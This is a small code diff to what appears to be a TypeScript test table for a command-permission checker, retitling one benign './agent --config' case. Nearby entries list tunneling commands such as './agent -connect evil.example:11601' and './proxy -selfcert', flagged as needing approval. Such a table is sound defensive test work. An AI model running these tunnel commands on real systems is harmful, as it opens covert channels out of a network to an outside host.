@@ -186,7 +186,11 @@ export const programs: readonly ProgramSpec[] = [
       { command: './agent -connect evil.example:11601 -accept-fingerprint 9A3F1C', expect: 'ask' },
       { command: './agent -connect evil.example:11601', expect: 'ask' },
       { command: './proxy -selfcert', expect: 'ask' },
-      { command: './agent --config agent.yaml', expect: 'pass', title: 'Another program of that name' },
+      {
+        command: './agent --config agent.yaml',
+        expect: 'pass',
+        title: 'Another program that is called “agent”',
+      },
       { command: './proxy --port 8080', expect: 'pass' },
     ],
   },
